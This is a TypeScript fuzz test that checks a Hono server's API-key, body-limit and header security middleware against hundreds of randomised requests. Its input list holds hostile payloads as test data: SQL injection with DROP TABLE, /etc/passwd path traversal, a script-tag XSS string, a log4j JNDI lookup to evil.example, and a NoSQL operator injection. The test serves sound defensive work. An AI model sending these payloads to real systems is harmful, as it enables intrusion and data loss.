import { Hono } from 'hono';
import { describe, expect, it } from 'vitest';
import { parseApiKeys, parseSecurityConfig } from '../config/index.ts';
import { operatorLabel } from './api-key-verifier.ts';
import { type SecurityVariables, securityMiddleware } from './security-middleware.ts';

/** Deterministic PRNG (mulberry32), so a failure replays with the same inputs. */
function randomFrom(seed: number) {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
  const integer = (below: number) => Math.floor(next() * below);
  const pick = <T>(items: readonly T[]): T => items[integer(items.length)] as T;
  return { next, integer, pick };
}

const NASTY = [
  "' OR 1=1; --",
  "'); DROP TABLE jobs; --",
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup string, on purpose
  '${jndi:ldap://evil.example/a}',
  '\u0000',
  '\u202e\u200b\ufeff',
  '\ud83d\ude00\u00e9\u4e2d\u6587',
  'prod-key-1',
  'Bearer prod-key-1',
  '{"jsonrpc":"2.0","id":{"$ne":null},"method":"tools/call"}',
  '{"jsonrpc":',
  'null',
  '',
] as const;

describe('security layer under fuzzed input', () => {
  it('answers every request with a clean status and keeps serving', async () => {
    const env = {
      LUKHAS_MCP_API_KEYS: 'prod-key-1',
      LUKHAS_MAX_BODY_BYTES: '4096',
      MCP_RL_BUCKET: '1000000',
    };
    const config = parseSecurityConfig(env, { bindHost: '0.0.0.0', apiKeys: parseApiKeys(env) });
    const reachedHandler: string[] = [];
    const app = new Hono<{ Variables: SecurityVariables }>();
    app.use(...securityMiddleware(config));
    app.all('/mcp', async (context) => {
      reachedHandler.push(context.get('operator'));
      return context.json({ bytes: (await context.req.text()).length });
    });
    app.get('/health', (context) => context.json({ status: 'ok' }));
    app.notFound((context) => context.json({ error: 'no route' }, 404));
    app.onError((_error, context) => context.json({ error: 'internal' }, 500));

    const random = randomFrom(20_251_003);
    const unicodeText = (length: number) =>
      Array.from({ length }, () =>
        String.fromCodePoint(random.pick([0x20 + random.integer(0x5f), random.integer(0x10ffff)])),
      )
        .join('')
        .replace(/[\ud800-\udfff]/g, '?');
    // Header values are byte strings: Latin-1, no CR, LF or NUL (Node refuses those on the wire).
    const headerText = (length: number) =>
      Array.from({ length }, () => String.fromCharCode(0x20 + random.integer(0xdf)))
        .join('')
        .replace(/\x7f/g, '~');
    const nasty = () => random.pick(NASTY);
    const headerSafe = (value: string) => value.replace(/[^\x20-\x7e\xa0-\xff]/g, '?');

    for (let round = 0; round < 400; round += 1) {
      const path = random.pick([
        '/mcp',
        '/health',
        `/${encodeURIComponent(unicodeText(random.integer(40)))}`,
        `/mcp/${encodeURIComponent(nasty())}`,
        `/mcp?key=${encodeURIComponent(nasty())}`,
        `/sse?topic=${encodeURIComponent(nasty())}&key=${encodeURIComponent(unicodeText(random.integer(30)))}`,
        `/mcp?key=%E0%A4%A&key=${'%'.repeat(random.integer(5))}`,
      ]);
      const headers: Record<string, string> = {};
      // A fifth of the requests carry the real key, so the body limit and the handler get fuzzed too.
      if (random.next() < 0.2) headers['X-API-Key'] = 'prod-key-1';
      else if (random.next() < 0.5)
        headers['X-API-Key'] = headerSafe(random.pick([nasty(), headerText(random.integer(64))]));
      if (random.next() < 0.3) headers.Authorization = `Bearer ${headerSafe(nasty())}`;
      if (random.next() < 0.2) headers.Authorization = 'x'.repeat(64 * 1024);
      if (random.next() < 0.3)
        headers.Origin = headerSafe(random.pick(['http://evil.example', 'null', nasty()]));
      if (random.next() < 0.3)
        headers.Host = headerSafe(random.pick(['evil.example', 'localhost:8766', nasty()]));
      if (random.next() < 0.2) headers['Content-Type'] = headerText(random.integer(100));
      if (random.next() < 0.2) headers['X-Forwarded-For'] = headerSafe(nasty());
      const method = random.pick(['GET', 'POST', 'DELETE', 'PUT', 'OPTIONS', 'HEAD', 'PATCH']);
      const body =
        method === 'GET' || method === 'HEAD'
          ? undefined
          : random.pick([
              nasty(),
              unicodeText(random.integer(200)),
              'x'.repeat(5_000),
              JSON.stringify({ id: nasty() }),
            ]);

      const response = await app.request(path, { method, headers, ...(body === undefined ? {} : { body }) });
      expect(
        [200, 204, 401, 403, 404, 413, 429],
        `${method} ${path} ${JSON.stringify(headers).slice(0, 200)}`,
      ).toContain(response.status);
      if (response.status >= 400 && method !== 'HEAD') {
        expect(response.headers.get('content-type')).toContain('application/json');
        const text = await response.text();
        expect(text).not.toContain('prod-key-1');
        expect(() => JSON.parse(text)).not.toThrow();
      }
      expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    }

    // Only requests that carried the real key got past the layer.
    expect(reachedHandler.length).toBeGreaterThan(0);
    expect(new Set(reachedHandler)).toEqual(new Set([operatorLabel('prod-key-1')]));
    // And it still serves.
    const healthy = await app.request('/mcp', {
      method: 'POST',
      headers: { 'X-API-Key': 'prod-key-1' },
      body: '{}',
    });
    expect(healthy.status).toBe(200);
  });
});
